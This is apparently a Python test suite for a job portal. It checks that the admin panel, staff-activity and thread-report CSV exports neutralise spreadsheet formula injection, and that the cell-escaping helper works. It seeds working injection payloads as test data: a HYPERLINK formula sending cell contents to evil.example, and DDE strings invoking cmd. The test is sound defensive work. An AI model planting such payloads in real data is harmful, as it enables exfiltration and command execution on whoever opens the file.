"""No CSV the product writes carries a cell a spreadsheet would run as a formula: every panel's
list export, the staff activity export and the thread's audit report, over a world whose free
text (names, titles, subjects, bodies, notes, requisitions, hold references) starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from litestar import Litestar
from litestar.testing import AsyncTestClient
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from admin.panels.views import PANELS
from portal.audit import Actor
from portal.database import write_transaction
from portal.models import (
    Application,
    EmailOutbox,
    MessageBlock,
    MessageThread,
    ModeratorNote,
    StaffUser,
)
from portal.models.base import new_id, utcnow
from portal.services.compliance.holds import place_hold
from portal.services.csv_cells import FORMULA_STARTS, csv_cell
from portal.settings import Settings
from tests.admin.support import post_form, sign_in
from tests.portal.moderation_support import report, send, staff, user

HOSTILE = {
    "employer name": '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "candidate name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "message body": "+1+cmd|' /C calc'!A0",
    "report note": "-2+3+cmd|' /C calc'!A0",
    "thread subject": "\t=1+1",
    "job title": "=2+5",
    "requisition": "+REQ-7",
    "block note": "\r=1",
    "moderator note": "-cmd",
    "email subject": "=subject",
    "staff name": "=staff",
    "hold case reference": "@EEOC-1",
}


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formula_cells(text: str) -> list[str]:
    return [cell for cell in cells(text) if cell.startswith(FORMULA_STARTS)]


async def hostile_world(session: AsyncSession, settings: Settings) -> dict[str, object]:
    employer = await user(session, "employer", HOSTILE["employer name"])
    candidate = await user(session, "candidate", HOSTILE["candidate name"])
    message = await send(session, settings, employer, candidate, HOSTILE["message body"])
    await report(session, message, candidate, "harassment", note=HOSTILE["report note"])
    admin = await staff(session, "admin", "Ada Admin")
    moderator = await staff(session, "moderator", HOSTILE["staff name"])
    async with write_transaction(session):
        await session.execute(
            update(MessageThread)
            .where(MessageThread.id == message.thread_id)
            .values(subject=HOSTILE["thread subject"])
        )
        session.add_all(
            [
                Application(
                    id=new_id(),
                    employer_id=employer.id,
                    candidate_id=candidate.id,
                    job_title=HOSTILE["job title"],
                    requisition_id=HOSTILE["requisition"],
                ),
                MessageBlock(
                    id=new_id(),
                    blocker_id=candidate.id,
                    blocked_id=employer.id,
                    reason="harassment",
                    note=HOSTILE["block note"],
                ),
                ModeratorNote(
                    id=new_id(),
                    author_id=moderator.id,
                    user_id=employer.id,
                    body=HOSTILE["moderator note"],
                ),
                EmailOutbox(
                    id=new_id(),
                    message_id=None,
                    recipient_id=candidate.id,
                    to_address="cody@example.com",
                    subject=HOSTILE["email subject"],
                    body_text="@body (not a list column)",
                    status="skipped",
                ),
            ]
        )
    await place_hold(
        session,
        actor=Actor.staff(admin.id),
        reason="=charge (not a list column)",
        case_reference=HOSTILE["hold case reference"],
        thread_id=message.thread_id,
    )
    return {"admin": admin, "thread_id": message.thread_id}


async def test_every_csv_export_neutralises_formulas(
    app: Litestar, session: AsyncSession, settings: Settings
) -> None:
    world = await hostile_world(session, settings)
    admin = world["admin"]
    assert isinstance(admin, StaffUser)
    problems: list[str] = []
    neutralised: set[str] = set()
    async with AsyncTestClient(app=app) as client:
        await sign_in(client, admin)
        exports: dict[str, str] = {}
        for panel in PANELS:
            answer = await post_form(client, f"/admin/{panel.identity}/export/csv")
            assert answer.status_code == 200, (panel.identity, answer.status_code)
            assert answer.headers["content-type"].startswith("text/csv")
            exports[f"panel {panel.identity}"] = answer.text
        today = utcnow().date()
        activity = await post_form(
            client,
            "/mod/compliance/staff-activity",
            {
                "from": str(today - timedelta(days=1)),
                "to": str(today + timedelta(days=1)),
                "format": "csv",
            },
        )
        assert activity.status_code == 200, activity.text
        exports["staff activity"] = activity.text
        thread_report = await post_form(
            client, f"/mod/compliance/threads/{world['thread_id']}/report", {"format": "csv"}
        )
        assert thread_report.status_code == 200, thread_report.text
        exports["thread report"] = thread_report.text
    for name, text in exports.items():
        problems += [f"{name}: {cell!r}" for cell in formula_cells(text)]
        neutralised |= {cell for cell in cells(text) if cell.startswith("'")}
    assert problems == []
    # every hostile value reached an export, and was neutralised there
    missing = {k: v for k, v in HOSTILE.items() if "'" + v not in neutralised}
    assert missing == {}


def test_csv_cell() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("plain text") == "plain text"
    assert csv_cell(" =not at the start") == " =not at the start"
    assert csv_cell(None) == ""
    assert csv_cell(-3) == "-3"  # a number is no formula
    assert csv_cell(2.5) == "2.5"
    assert csv_cell(True) == "True"
